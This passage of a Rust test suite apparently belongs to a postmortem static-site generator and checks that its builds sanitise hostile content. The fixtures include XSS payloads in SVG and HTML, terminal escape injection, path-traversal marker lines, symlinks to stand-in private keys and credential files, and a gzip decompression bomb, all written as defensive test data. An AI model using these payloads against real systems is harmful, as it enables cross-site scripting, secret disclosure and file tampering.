    let published = |name: &str| {
        std::fs::read_to_string(site.out.join("incidents/2024-03-01-outage").join(name)).unwrap()
    };
    // Nothing unsafe: byte for byte.
    assert_eq!(published("chart.svg"), chart);
    assert_eq!(published("safe.htm"), safe);
    // The script, the handler and the URL are cut out; the picture is as written.
    assert_eq!(
        published("diagram.svg"),
        "<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"40\" height=\"20\">\n  \n  <rect width=\"40\" height=\"20\" fill=\"#09c\"/>\n  <a><text y=\"15\">map</text></a>\n</svg>\n"
    );
    let html = published("report.html");
    assert!(
        html.contains(
            "<meta http-equiv=\"Content-Security-Policy\" content=\"script-src 'none'\">"
        ),
        "{html}"
    );
    assert!(html.contains("<style>td{color:#333}</style>"), "{html}");
    assert!(html.contains("<td>p99</td>"), "{html}");
    assert!(
        !html.contains("alert") && !html.contains("<script"),
        "{html}"
    );
    // The authors' files are left as they are, and build says what it left out, where.
    for (name, text) in [
        ("chart.svg", chart),
        ("diagram.svg", diagram),
        ("report.html", report),
    ] {
        let source = site.root.join("content/postmortems").join(name);
        assert_eq!(std::fs::read_to_string(source).unwrap(), text);
    }
    let err = stderr(&o);
    for place in [
        "content/postmortems/diagram.svg:1:64",
        "content/postmortems/diagram.svg:2:3",
        "content/postmortems/diagram.svg:4:12",
        "content/postmortems/report.html:3:22",
        "content/postmortems/report.html:4:1",
    ] {
        assert!(err.contains(place), "{place} in {err}");
    }
    assert_eq!(err.matches("unsafe-attachment").count(), 5, "{err}");
}

#[test]
fn an_attachment_named_in_trusted_attachments_is_published_with_its_scripts() {
    let flame = "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"init(evt)\"><script>function init(e) {}</script><rect width=\"9\" height=\"9\"/></svg>\n";
    let site = Site::with(&[
        (
            "hindsight.toml",
            "trusted_attachments = [\"profiles/*.svg\"]\n",
        ),
        (
            "content/2024-03-01-slow.md",
            "# Slow checkout\n\nThe [flame graph](profiles/flame.svg) and the [copy](flame.svg).\n",
        ),
        ("content/profiles/flame.svg", flame),
        ("content/flame.svg", flame),
    ]);
    let o = site.build();
    assert!(o.status.success(), "{}", stderr(&o));
    let trusted = std::fs::read_to_string(
        site.out
            .join("incidents/2024-03-01-slow/profiles/flame.svg"),
    )
    .unwrap();
    assert_eq!(trusted, flame);
    let other =
        std::fs::read_to_string(site.out.join("incidents/2024-03-01-slow/flame.svg")).unwrap();
    assert!(!other.contains("<script"), "{other}");
    let err = stderr(&o);
    assert!(!err.contains("profiles/flame.svg"), "{err}");
    assert!(err.contains("content/flame.svg:1:"), "{err}");
}

#[test]
fn capitalised_front_matter_keys_give_the_incident_its_title_date_tags_severity_and_services() {
    // As Hugo's and Jekyll's users often write them, in YAML and in TOML.
    let site = Site::with(&[
        (
            "content/cap-yaml.md",
            "---\nID: INC-1\nTitle: Disk full on db-1\nDate: 2024-03-01\nTags: [disk, database]\nSeverity: SEV2\nServices: [orders-db]\n---\n\nThe disk filled.\n",
        ),
        (
            "content/cap-toml.md",
            "+++\nID = \"INC-2\"\nTitle = \"Queue stalled\"\nDate = 2024-03-02\nTags = [\"queue\"]\nSeverity = \"SEV3\"\nServices = [\"billing\"]\n+++\n\nThe queue stalled.\n",
        ),
    ]);
    site.build_ok();
    let one = site.incident("INC-1");
    assert_eq!(one["title"], "Disk full on db-1", "{one}");
    assert_eq!(one["date"], "2024-03-01", "{one}");
    assert_eq!(
        one["tags"],
        serde_json::json!(["disk", "database"]),
        "{one}"
    );
    assert_eq!(one["severity"], "SEV2", "{one}");
    assert_eq!(one["services"], serde_json::json!(["orders-db"]), "{one}");
    let two = site.incident("INC-2");
    assert_eq!(two["title"], "Queue stalled", "{two}");
    assert_eq!(two["date"], "2024-03-02", "{two}");
    assert_eq!(two["tags"], serde_json::json!(["queue"]), "{two}");
    assert!(site.out.join("tags/disk/index.html").is_file());
}

#[test]
fn a_utf32_postmortem_is_read_as_text_in_either_byte_order() {
    // As PowerShell's `-Encoding utf32` writes it (little-endian with a byte order mark), and
    // big-endian.
    let text = |id: &str| {
        format!("\u{feff}---\r\nid: {id}\r\ntitle: Café outage\r\ndate: 2024-03-03\r\n---\r\n\r\n## What happened\r\n\r\nThe café's till 🧾 stopped.\r\n")
    };
    let le: Vec<u8> = text("INC-20")
        .chars()
        .flat_map(|c| (c as u32).to_le_bytes())
        .collect();
    let be: Vec<u8> = text("INC-21")
        .chars()
        .flat_map(|c| (c as u32).to_be_bytes())
        .collect();
    let site = Site::empty();
    std::fs::create_dir_all(site.root.join("content")).unwrap();
    std::fs::write(site.root.join("content/INC-20-utf32.md"), le).unwrap();
    std::fs::write(site.root.join("content/INC-21-utf32be.md"), be).unwrap();
    site.build_ok();
    for id in ["INC-20", "INC-21"] {
        let page = site.text(&format!("incidents/{id}/index.html"));
        assert!(page.contains("Café outage"), "{page}");
        assert!(page.contains("The café's till 🧾 stopped."), "{page}");
        assert!(page.contains("2024-03-03"), "{page}");
    }
}

#[test]
fn a_tag_or_service_written_with_a_composed_or_a_decomposed_accent_is_one_term_on_one_page() {
    let pm = |id: &str, date: &str, name: &str| {
        (
            format!("content/{id}.md"),
            format!("---\nid: {id}\ntitle: Outage {id}\ndate: {date}\ntags: [{name}]\nservices: [{name} api]\n---\n\nText.\n"),
        )
    };
    // `café` with U+00E9 in the newer postmortem, with `e` and U+0301 in the older.
    let files = [
        pm("INC-1", "2024-03-02", "caf\u{e9}"),
        pm("INC-2", "2024-03-01", "cafe\u{301}"),
    ];
    let files: Vec<(&str, &str)> = files
        .iter()
        .map(|(p, t)| (p.as_str(), t.as_str()))
        .collect();
    let site = Site::with(&files);
    site.build_ok();
    for (page, name) in [
        ("tags/cafe/index.html", "caf\u{e9}"),
        ("services/cafe-api/index.html", "caf\u{e9} api"),
    ] {
        let text = site.text(page);
        assert!(
            text.contains("Outage INC-1") && text.contains("Outage INC-2"),
            "{text}"
        );
        // Named as first seen, in the newest postmortem.
        assert!(text.contains(name), "{text}");
    }
    assert!(!site.out.join("tags/cafe-2").exists());
    assert!(!site.out.join("services/cafe-api-2").exists());
    assert_eq!(
        site.incident("INC-2")["tags"],
        serde_json::json!(["caf\u{e9}"])
    );
}

#[test]
fn check_and_build_show_a_postmortems_terminal_escapes_written_out_not_as_they_are() {
    let site = Site::fixture("basic");
    let pm = site
        .root
        .join("content/postmortems/2021-05-04-disk-full.md");
    let mut text = std::fs::read_to_string(&pm).unwrap();
    text.push_str("\nRetried \x1b]0;pwned\x07 twice\x1b[2J, then\0 gave up.\n");
    std::fs::write(&pm, text).unwrap();
    let checked = check(&site.root, &[]);
    let built = site.build();
    assert!(built.status.success(), "{}", stderr(&built));
    for shown in [
        String::from_utf8_lossy(&checked.stdout),
        stderr(&built).into(),
    ] {
        assert!(
            shown.contains("Retried \\x1b]0;pwned\\x07 twice\\x1b[2J, then\\0 gave up."),
            "{shown}"
        );
        assert!(
            !shown.contains(['\x1b', '\x07', '\0']),
            "raw control characters reach the terminal: {shown:?}"
        );
    }
}

#[test]
fn a_marker_that_names_files_outside_the_output_folder_deletes_none_of_them() {
    let site = Site::fixture("basic");
    site.build_ok();
    let outside = tempfile::tempdir().unwrap();
    let victims = [
        site.root.join("victim.txt"),
        outside.path().join("victim.txt"),
        outside.path().join("linked/victim.txt"),
    ];
    for v in &victims {
        std::fs::create_dir_all(v.parent().unwrap()).unwrap();
        std::fs::write(v, "not Hindsight's").unwrap();
    }
    // A link in the output folder to a folder elsewhere, listed with a file under it.
    #[cfg(unix)]
    std::os::unix::fs::symlink(outside.path().join("linked"), site.out.join("linked")).unwrap();
    let marker = site.out.join(".hindsight-output");
    let mut text = std::fs::read_to_string(&marker).unwrap();
    let first = text.lines().count() + 1;
    let root_victim = std::path::absolute(&site.root).unwrap().join("victim.txt");
    let bad = [
        "../../site/victim.txt".to_string(),
        victims[1].display().to_string(),
        format!("incidents/../../{}", root_victim.display()),
        "./../site/victim.txt".to_string(),
    ];
    for line in &bad {
        text.push_str(line);
        text.push('\n');
    }
    text.push_str("linked/victim.txt\nlinked\n");
    std::fs::write(&marker, text).unwrap();

    let o = site.build();
    let err = stderr(&o);
    assert!(o.status.success(), "{err}");
    for v in &victims {
        assert_eq!(
            std::fs::read_to_string(v).unwrap(),
            "not Hindsight's",
            "{}",
            v.display()
        );
    }
    for (i, line) in bad.iter().enumerate() {
        let warning = format!(
            "warning: line {} of {}, `{line}`, is not a path inside the output folder and was ignored",
            first + i,
            marker.display()
        );
        assert!(err.contains(&warning), "{warning}\n{err}");
    }
    // The link was listed, so it went with the old site; what it pointed to stays.
    assert!(std::fs::symlink_metadata(site.out.join("linked")).is_err());
    assert!(site.out.join("index.html").is_file());
}

#[test]
fn the_sites_static_folder_is_published_as_it_is_at_the_root_of_the_output() {
    let site = Site::fixture("basic");
    site.build_ok();
    // A file put into the output folder by hand stops the next build, whose hint says where
    // such a file belongs.
    std::fs::write(site.out.join("CNAME"), "postmortems.example.org\n").unwrap();
    let o = site.build();
    assert_eq!(o.status.code(), Some(2));
    assert!(
        stderr(&o).contains("belongs in the `static/` folder beside hindsight.toml"),
        "{}",
        stderr(&o)
    );
    std::fs::remove_file(site.out.join("CNAME")).unwrap();

    let files = [
        ("static/CNAME", "postmortems.example.org\n"),
        ("static/.nojekyll", ""),
        (
            "static/.well-known/security.txt",
            "Contact: mailto:sec@example.org\n",
        ),
        ("static/robots.txt", "User-agent: *\nDisallow: /\n"),
        ("static/files/runbook..v2.txt", "two dots in a name\n"),
        ("static/notes.md", "---\ntitle: Not a postmortem\n---\n"),
    ];
    write_files(&site.root, &files);
    // Postmortems at the root, beside `static/`.
    std::fs::write(site.root.join("hindsight.toml"), "content_dir = \".\"\n").unwrap();
    for folder in ["postmortems", "learnings"] {
        std::fs::rename(
            site.root.join("content").join(folder),
            site.root.join(folder),
        )
        .unwrap();
    }
    for _ in 0..2 {
        site.build_ok();
        for (path, text) in files {
            let published = path.strip_prefix("static/").unwrap();
            assert_eq!(site.page(published), text, "{published}");
        }
        // A Markdown file there is published as it is, not read as a postmortem.
        assert!(!exported(&site.out, "title").contains(&"Not a postmortem".to_string()));
        assert!(exported(&site.out, "title").len() > 1);
    }
}

#[test]
fn build_warns_of_each_script_it_leaves_out_of_a_page_where_it_is_written() {
    let site = Site::with(&[(
        "content/a.md",
        "---\ndate: 2024-01-01\n---\n# Slow search\n\nThe graph: <img src=\"graph.png\" alt=\"latency\" onerror=\"alert(1)\">\n",
    )]);
    let built = site.build();
    assert!(built.status.success(), "{}", stderr(&built));
    let said = stderr(&built);
    assert!(said.contains("unsafe-html"), "{said}");
    assert!(said.contains("`onerror` attribute is left out"), "{said}");
    assert!(said.contains("content/a.md:6:"), "{said}");
    assert!(!site.page("incidents/a/index.html").contains("onerror"));
}

#[test]
fn a_bare_id_links_only_to_an_incident_that_the_build_publishes_and_stays_text_otherwise() {
    let pm = |id: &str, extra: &str, body: &str| {
        format!("---\nid: {id}\ntitle: Outage {id}\ndate: 2024-03-01\n{extra}---\n\n## Summary\n\n{body}\n")
    };
    let mut site = Site::with(&[
        (
            "content/p-1.md",
            &pm("P-1", "", "Like P-2, and D-1 and I-1 and R-1 before it."),
        ),
        ("content/p-2.md", &pm("P-2", "", "Text.")),
        ("content/d-1.md", &pm("D-1", "status: draft\n", "Text.")),
        (
            "content/i-1.md",
            &pm("I-1", "visibility: internal\n", "Text."),
        ),
        ("content/r-1.md", &pm("R-1", "status: review\n", "Text.")),
    ]);
    site.build_ok();
    let page = site.page("incidents/P-1/index.html");
    assert!(
        page.contains("href=\"../../incidents/P-2/\">P-2</a>"),
        "{page}"
    );
    for id in ["D-1", "I-1", "R-1"] {
        assert!(!page.contains(&format!("incidents/{id}/")), "{id}: {page}");
    }
    assert!(
        site.text("incidents/P-1/index.html")
            .contains("Like P-2, and D-1 and I-1 and R-1 before it."),
        "{page}"
    );
    // Built with its drafts and internal incidents, every one has a page to link to.
    site.out = site.out.with_file_name("with-drafts");
    build_drafts_ok(&site.root, &site.out);
    let page = site.page("incidents/P-1/index.html");
    for id in ["P-2", "D-1", "I-1", "R-1"] {
        assert!(
            page.contains(&format!("href=\"../../incidents/{id}/\">{id}</a>")),
            "{id}: {page}"
        );
    }
    // `check` still says that the published page names incidents it will not show.
    let (_, findings) = check_json(&site.root, &[]);
    let unpublished: Vec<_> = findings
        .iter()
        .filter(|f| f["rule"] == "link-to-unpublished" && f["file"] == "content/p-1.md")
        .collect();
    assert_eq!(unpublished.len(), 3, "{findings:#?}");
}

/// A file outside the site root `site.root` (beside it, in the test's temporary folder) that
/// holds `text`: what a CI runner's key would be.
fn secret_beside(site: &Site, name: &str, text: &str) -> std::path::PathBuf {
    let path = site.root.parent().unwrap().join(name);
    std::fs::write(&path, text).unwrap();
    path
}

/// Whether any file of `dir` holds `needle`.
fn any_file_holds(dir: &Path, needle: &str) -> bool {
    tree(dir)
        .values()
        .any(|bytes| String::from_utf8_lossy(bytes).contains(needle))
}

#[test]
#[cfg(unix)]
fn a_symlinked_image_or_file_outside_the_site_root_is_not_published_and_is_an_error_where_it_is_linked(
) {
    use std::os::unix::fs::symlink;
    let body = "---\nid: LEAK-1\ntitle: Graphs\ndate: 2024-01-02\n---\n# Graphs\n\n\
                ![graph](graph.png)\n\n[log](logs/env.txt)\n\n![shared](shared.png)\n";
    let site = Site::with(&[
        ("content/postmortems/graphs.md", body),
        ("assets/shared.png", "PNG shared from elsewhere in the repo"),
    ]);
    let key = secret_beside(
        &site,
        "id_rsa",
        "-----BEGIN OPENSSH PRIVATE KEY----- SECRET-1\n",
    );
    let outside = site.root.parent().unwrap().join("runner");
    std::fs::create_dir(&outside).unwrap();
    std::fs::write(outside.join("env.txt"), "AWS_SECRET=SECRET-2\n").unwrap();
    let dir = site.root.join("content/postmortems");
    // Relative and absolute targets; a file, and a folder whose file is linked.
    symlink("../../../id_rsa", dir.join("graph.png")).unwrap();
    symlink(&outside, dir.join("logs")).unwrap();
    // A link that stays inside the repository is published as any file.
    symlink("../../assets/shared.png", dir.join("shared.png")).unwrap();

    let o = site.build();
    assert_eq!(o.status.code(), Some(1), "{}", stderr(&o));
    let err = stderr(&o);
    assert!(
        err.contains("image `graph.png` leads outside the site root")
            && err.contains(
                "`content/postmortems/graph.png` is a symbolic link to `../../../id_rsa`"
            )
            && err.contains(&format!("`{}`", key.canonicalize().unwrap().display())),
        "{err}"
    );
    assert!(
        err.contains("`content/postmortems/logs` is a symbolic link to")
            && err.contains("so `content/postmortems/logs/env.txt` is"),
        "{err}"
    );
    assert!(err.contains("copy the file into the repository"), "{err}");
    assert!(!err.contains("SECRET-"), "{err}");
    assert!(!site.out.exists(), "nothing is published");

    // `check` says the same, at the line and column of each link, and `build` of the site
    // without them publishes the image the inside link leads to.
    let (code, findings) = check_json(&site.root, &[]);
    assert_eq!(code, Some(1));
    let at: Vec<(&str, u64, u64)> = findings
        .iter()
        .filter(|f| f["rule"] == "symlink-outside")
        .map(|f| {
            assert_eq!(f["level"], "error");
            let file = f["file"].as_str().unwrap();
            (
                file,
                f["line"].as_u64().unwrap(),
                f["column"].as_u64().unwrap(),
            )
        })
        .collect();
    let file = "content/postmortems/graphs.md";
    // The linked folder is also one at the link, as the walk of the content folder finds it.
    let folder = ("content/postmortems/logs", 1, 1);
    assert_eq!(at, [(file, 8, 1), (file, 10, 1), folder], "{findings:?}");
    std::fs::remove_file(dir.join("graph.png")).unwrap();
    std::fs::remove_file(dir.join("logs")).unwrap();
    std::fs::write(
        site.root.join("content/postmortems/graphs.md"),
        body.replace("![graph](graph.png)\n\n[log](logs/env.txt)\n\n", ""),
    )
    .unwrap();
    site.build_ok();
    assert_eq!(
        site.page("incidents/LEAK-1/shared.png"),
        "PNG shared from elsewhere in the repo"
    );
    assert!(!any_file_holds(&site.out, "SECRET-"));
}

#[test]
#[cfg(unix)]
fn a_symlinked_markdown_file_or_folder_outside_the_site_root_is_not_read() {
    use std::os::unix::fs::symlink;
    let site = Site::with(&[("content/own.md", &postmortem("OWN-1", "Our own"))]);
    secret_beside(
        &site,
        "passwd.md",
        "# Leaked SECRET-3\n\nroot:x:0:0:SECRET-4\n",
    );
    let folder = site.root.parent().unwrap().join("home");
    write_files(&folder, &[("notes.md", &postmortem("HOME-1", "SECRET-5"))]);
    symlink("../../passwd.md", site.root.join("content/leak.md")).unwrap();
    symlink(&folder, site.root.join("content/home")).unwrap();

    let o = site.build();
    assert_eq!(o.status.code(), Some(1), "{}", stderr(&o));
    let err = stderr(&o);
    for link in ["content/leak.md", "content/home"] {
        assert!(
            err.contains(&format!("`{link}` is a symbolic link to")),
            "{err}"
        );
    }
    // Neither its text nor its first line is shown under the finding.
    assert!(!err.contains("SECRET-"), "{err}");
    assert!(!site.out.exists(), "nothing is published");
    let (code, findings) = check_json(&site.root, &[]);
    assert_eq!(code, Some(1));
    let files: std::collections::BTreeSet<&str> = findings
        .iter()
        .map(|f| f["file"].as_str().unwrap())
        .collect();
    // Found at the links, and nothing read through them: no other finding is about them.
    assert_eq!(
        files,
        std::collections::BTreeSet::from(["content/home", "content/leak.md", "content/own.md"]),
        "{findings:?}"
    );
    for f in findings.iter().filter(|f| f["file"] != "content/own.md") {
        assert_eq!(f["rule"], "symlink-outside", "{f}");
    }
    let human = check(&site.root, &[]);
    assert!(!String::from_utf8_lossy(&human.stdout).contains("SECRET-"));
}

#[test]
#[cfg(unix)]
fn a_symlink_in_the_static_folder_that_leads_outside_the_site_root_is_not_published() {
    use std::os::unix::fs::symlink;
    let site = Site::fixture("basic");
    write_files(&site.root, &[("static/CNAME", "kb.example.org\n")]);
    let env = secret_beside(&site, "environ", "GITHUB_TOKEN=SECRET-6\n");
    let statics = site.root.join("static");
    symlink(&env, statics.join("env.txt")).unwrap();
    let cache = site.root.parent().unwrap().join("cache");
    write_files(
        &cache,
        &[(
            "token.txt",
            "SECRET-8
",
        )],
    );
    symlink(&cache, statics.join("cache")).unwrap();
    // Inside the repository: published.
    symlink("../hindsight.toml", statics.join("config.txt")).unwrap();

    let o = site.build();
    assert_eq!(o.status.code(), Some(1), "{}", stderr(&o));
    let err = stderr(&o);
    for link in ["static/cache", "static/env.txt"] {
        assert!(
            err.contains(&format!("`{link}` is a symbolic link to")),
            "{err}"
        );
    }
    assert!(err.contains("copy the file into `static/`"), "{err}");
    assert!(!err.contains("SECRET-"), "{err}");
    assert!(!site.out.exists(), "nothing is published");
    let (code, findings) = check_json(&site.root, &[]);
    assert_eq!(code, Some(1));
    let files: Vec<&str> = findings
        .iter()
        .filter(|f| f["rule"] == "symlink-outside")
        .map(|f| f["file"].as_str().unwrap())
        .collect();
    assert_eq!(files, ["static/cache", "static/env.txt"], "{findings:?}");

    std::fs::remove_file(statics.join("env.txt")).unwrap();
    std::fs::remove_file(statics.join("cache")).unwrap();
    site.build_ok();
    assert_eq!(site.page("CNAME"), "kb.example.org\n");
    assert!(site.page("config.txt").contains("Fixture: basic"));
    assert!(!any_file_holds(&site.out, "SECRET-"));
}

#[test]
fn a_compressed_svg_attachment_is_checked_as_the_svg_inside_it_and_one_too_large_to_check_is_not_published(
) {
    use std::io::{Read, Write};
    let gzip = |bytes: &[u8]| {
        let mut e = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
        e.write_all(bytes).unwrap();
        e.finish().unwrap()
    };
    let gunzip = |bytes: &[u8]| {
        let mut out = String::new();
        flate2::read::GzDecoder::new(bytes)
            .read_to_string(&mut out)
            .unwrap();
        out
    };
    let chart = "<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"40\" height=\"20\"><rect width=\"40\" height=\"20\"/></svg>\n";
    let diagram = "<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"40\" height=\"20\">\n  <script>alert(document.domain)</script>\n  <rect width=\"40\" height=\"20\"/>\n</svg>\n";
    // Over the cap once decompressed: 64 MiB of spaces and then a script, 64 KiB as gzip.
    let mut bomb = b"<svg xmlns=\"http://www.w3.org/2000/svg\">".to_vec();
    bomb.resize(64 << 20, b' ');
    bomb.extend_from_slice(b"<script>alert(1)</script></svg>\n");
    let site = Site::with(&[
        (
            "hindsight.toml",
            "trusted_attachments = [\"trusted.svgz\"]\n",
        ),
        (
            "content/2024-03-01-outage.md",
            "# Outage\n\nThe [chart](chart.svgz), the [diagram](diagram.SVGZ), the [bomb](bomb.svgz), the [damaged one](damaged.svgz) and the [trusted one](trusted.svgz).\n",
        ),
    ]);
    let (chart_gz, diagram_gz, bomb_gz) = (
        gzip(chart.as_bytes()),
        gzip(diagram.as_bytes()),
        gzip(&bomb),
    );
    let mut damaged = gzip(diagram.as_bytes());
    damaged.truncate(damaged.len() / 2);
    let content = site.root.join("content");
    for (name, bytes) in [
        ("chart.svgz", &chart_gz),
        ("diagram.SVGZ", &diagram_gz),
        ("bomb.svgz", &bomb_gz),
        ("damaged.svgz", &damaged),
        ("trusted.svgz", &diagram_gz),
    ] {
        std::fs::write(content.join(name), bytes).unwrap();
    }
    let o = site.build();
    assert!(o.status.success(), "{}", stderr(&o));
    let out = site.out.join("incidents/2024-03-01-outage");
    // Clean, or trusted: byte for byte.
    assert_eq!(std::fs::read(out.join("chart.svgz")).unwrap(), chart_gz);
    assert_eq!(std::fs::read(out.join("trusted.svgz")).unwrap(), diagram_gz);
    // The script is cut out of the SVG, which is compressed again.
    assert_eq!(
        gunzip(&std::fs::read(out.join("diagram.SVGZ")).unwrap()),
        "<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"40\" height=\"20\">\n  \n  <rect width=\"40\" height=\"20\"/>\n</svg>\n"
    );
    // What cannot be checked is not published, and build says which file and what to do.
    assert!(!out.join("bomb.svgz").exists());
    assert!(!out.join("damaged.svgz").exists());
    let err = stderr(&o);
    assert!(err.contains("content/diagram.SVGZ:2:3"), "{err}");
    assert!(err.contains("content/bomb.svgz:1:1"), "{err}");
    assert!(err.contains("more than 64 MiB once decompressed"), "{err}");
    assert!(err.contains("publish the picture as `.svg`"), "{err}");
    assert!(err.contains("content/damaged.svgz:1:1"), "{err}");
    assert!(err.contains("gzip -c picture.svg > picture.svgz"), "{err}");
    assert!(!err.contains("trusted.svgz"), "{err}");
    assert_eq!(err.matches("unsafe-attachment").count(), 3, "{err}");
    // The files in the content folder are left as they are.
    assert_eq!(std::fs::read(content.join("bomb.svgz")).unwrap(), bomb_gz);
}

#[test]
fn an_old_id_in_aliases_names_the_renamed_incident_in_related_in_the_text_and_in_the_reading_path()
{
    let pm = |id: &str, extra: &str, body: &str| {
        format!("---\nid: {id}\ntitle: Outage {id}\ndate: 2024-03-01\n{extra}---\n\n## Summary\n\n{body}\n\n## Timeline\n\nText.\n")
    };
    let site = Site::with(&[
        (
            "content/new.md",
            &pm("NEW-2", "aliases: [OLD-1]\n", "Renamed from its old id."),
        ),
        (
            "content/b.md",
            &pm("B-3", "related: [OLD-1]\n", "Nothing in common."),
        ),
        (
            "content/c.md",
            &pm(
                "C-4",
                "",
                "As in OLD-1, see [its timeline](OLD-1#timeline).",
            ),
        ),
        (
            "content/onboarding.md",
            "---\npath:\n  - incident: OLD-1\n    why: Read it first.\n---\n",
        ),
    ]);
    site.build_ok();
    // `related` lists it under its new id, as linked by the authors.
    assert_eq!(site.incident("B-3")["related"][0], "NEW-2");
    let related = site.text("incidents/B-3/index.html");
    assert!(
        related.contains("Outage NEW-2 NEW-2 2024-03-01 linked by the authors"),
        "{related}"
    );
    // In the text, the old id, bare or as a link, leads to its page.
    let page = site.page("incidents/C-4/index.html");
    assert!(
        page.contains("<a href=\"../../incidents/NEW-2/\">OLD-1</a>"),
        "{page}"
    );
    assert!(
        page.contains("<a href=\"../../incidents/NEW-2/#timeline\">its timeline</a>"),
        "{page}"
    );
    let onboarding = site.page("onboarding/index.html");
    assert!(
        onboarding.contains("href=\"../incidents/NEW-2/\""),
        "{onboarding}"
    );
    // `check` has nothing to say of them.
    let (_, findings) = check_json(&site.root, &[]);
    let about: Vec<_> = findings
        .iter()
        .filter(|f| f["message"].as_str().unwrap().contains("OLD-1"))
        .collect();
    assert!(about.is_empty(), "{about:#?}");
}

#[test]
fn a_link_to_a_draft_or_internal_incident_is_published_as_its_text_alone_and_build_warns_of_it() {
    let breach = "2024-03-01-acme-customer-pii-breach";
    let public = format!(
        "---\nid: PM2024-010\ntitle: Public\ndate: 2024-04-01\n---\n\n## Summary\n\n\
         See [the breach]({breach}.md#timeline), [by id]({breach}),\n\
         [from the root](/incidents/{breach}/), [from a page](../incidents/{breach}/),\n\
         [beside this page](../{breach}/) and [a reference][breach].\n\n\
         The draft: [by its old id](PM2023-555), [its old URL](/posts/old-draft/),\n\
         [its page](../../incidents/PM2024-777/#timeline).\n\n\
         Raw: <a href=\"{breach}.md\" title=\"t\">html link</a>.\n\n\
         <iframe src=\"draft.md\" title=\"Draft\"></iframe>\n\n\
         And [the other one](other.md), [again](/incidents/PM2024-011/).\n\n\
         [breach]: {breach}.md\n"
    );
    let mut site = Site::with(&[
        ("content/postmortems/public.md", &public),
        (
            &format!("content/postmortems/{breach}.md"),
            "---\nvisibility: internal\n---\n# Customer data exposed\n\n## Timeline\n\nSecret.\n",
        ),
        (
            "content/postmortems/draft.md",
            "---\nid: PM2024-777\ntitle: Draft\ndate: 2024-03-02\nstatus: draft\n\
             aliases: [PM2023-555, /posts/old-draft/]\n---\n\n## Timeline\n\nNot yet.\n",
        ),
        (
            "content/postmortems/other.md",
            "---\nid: PM2024-011\ntitle: Other\ndate: 2024-03-03\n---\n\nText.\n",
        ),
    ]);
    let o = site.build();
    assert!(o.status.success(), "{}", stderr(&o));
    // Eleven links, each warned of where it is written, as `check` warns of them.
    let said = stderr(&o);
    let warned = |said: &str| said.matches("will not be on the published site").count();
    assert_eq!(warned(&said), 11, "{said}");
    assert!(said.contains("content/postmortems/public.md:9:5"), "{said}");
    let (_, findings) = check_json(&site.root, &[]);
    let checked: Vec<_> = findings
        .iter()
        .filter(|f| f["rule"] == "link-to-unpublished")
        .map(|f| (f["line"].as_u64().unwrap(), f["column"].as_u64().unwrap()))
        .collect();
    assert_eq!(checked.len(), 11, "{findings:#?}");
    for (line, column) in checked {
        assert!(
            said.contains(&format!("content/postmortems/public.md:{line}:{column}")),
            "{line}:{column}: {said}"
        );
    }
    // No page, feed, search index or export names them, nor leads to them.
    for secret in ["acme", "PM2024-777", "PM2023-555", "old-draft"] {
        assert!(!any_file_holds(&site.out, secret), "{secret}");
    }
    let text = site.text("incidents/PM2024-010/index.html");
    for words in [
        "See the breach, by id, from the root, from a page, beside this page and a reference.",
        "The draft: by its old id, its old URL, its page.",
        "Raw: html link.",
    ] {
        assert!(text.contains(words), "{words}: {text}");
    }
    let page = site.page("incidents/PM2024-010/index.html");
    assert!(page.contains("<a title=\"t\">html link</a>"), "{page}");
    assert!(page.contains("<iframe title=\"Draft\"></iframe>"), "{page}");
    // A link to a published incident leads to it, written as a site URL too.
    for text in ["the other one", "again"] {
        assert!(
            page.contains(&format!(
                "<a href=\"../../incidents/PM2024-011/\">{text}</a>"
            )),
            "{page}"
        );
    }
    // Built with its drafts and internal incidents, every one is a link to its page.
    site.out = site.out.with_file_name("with-drafts");
    build_drafts_ok(&site.root, &site.out);
    let page = site.page("incidents/PM2024-010/index.html");
    for link in [
        format!("<a href=\"../../incidents/{breach}/#timeline\">the breach</a>"),
        format!("<a href=\"../../incidents/{breach}/\">beside this page</a>"),
        format!("<a href=\"../../incidents/{breach}/\">a reference</a>"),
        format!("<a href=\"../../incidents/{breach}/\" title=\"t\">html link</a>"),
        "<a href=\"../../incidents/PM2024-777/\">its old URL</a>".to_string(),
        "<a href=\"../../incidents/PM2024-777/#timeline\">its page</a>".to_string(),
        "<iframe src=\"../../incidents/PM2024-777/\" title=\"Draft\">".to_string(),
    ] {
        assert!(page.contains(&link), "{link}: {page}");
    }
}

#[test]
fn a_table_is_in_a_named_focusable_box_and_only_a_short_first_column_is_kept_on_one_line() {
    let site = Site::with(&[(
        "content/tables.md",
        "---\ntitle: Tables\ndate: 2024-03-03\n---\n\n\
         | Note | Value |\n|---|---|\n| a | b |\n\n\
         ## Timeline\n\n\
         | Time | Event |\n|---|---|\n| 2020-10-06 09:00 - 11:00 | Deploy |\n| 09:30 | Rollback |\n\n\
         | Time | Event |\n|---|---|\n| 10:00 | Resolved |\n\n\
         ## Actions & follow-ups\n\n\
         | Action | Owner |\n|---|---|\n| 10:00 | x |\n| Run the planner against forecast stop counts | team |\n",
    )]);
    site.build_ok();
    let page = site.page("incidents/tables/index.html");
    let body = prose(&page);
    let boxes: Vec<&str> = body
        .match_indices("<div class=\"table-wrap")
        .map(|(at, _)| &body[at..at + body[at..].find('>').unwrap() + 1])
        .collect();
    assert_eq!(
        boxes,
        [
            // Before any heading; one-letter cells are short.
            "<div class=\"table-wrap short-first\" role=\"region\" aria-label=\"Table\" tabindex=\"0\">",
            // Times, with a range, stay on one line; a second table under one heading is told apart.
            "<div class=\"table-wrap short-first\" role=\"region\" aria-label=\"Timeline table\" tabindex=\"0\">",
            "<div class=\"table-wrap short-first\" role=\"region\" aria-label=\"Timeline table 2\" tabindex=\"0\">",
            // One sentence in the first column lets the column wrap.
            "<div class=\"table-wrap\" role=\"region\" aria-label=\"Actions &amp; follow-ups table\" tabindex=\"0\">",
        ],
        "{body}"
    );
}

#[test]
fn an_empty_tag_service_or_author_is_left_out_everywhere_with_a_warning_and_an_empty_summary_is_derived(
) {
    let site = Site::with(&[(
        "content/2024-03-01-blank.md",
        "---\nid: PM2024-001\ntitle: Blanks\ndate: 2024-03-01\ntags: [\"\", \"ok\"]\n\
         services: [\"\"]\nauthors: [\"Jane\", \"\"]\nsummary: \"\"\n---\n\n## Summary\n\n\
         The queue stalled for an hour.\n",
    )]);
    site.build_ok();
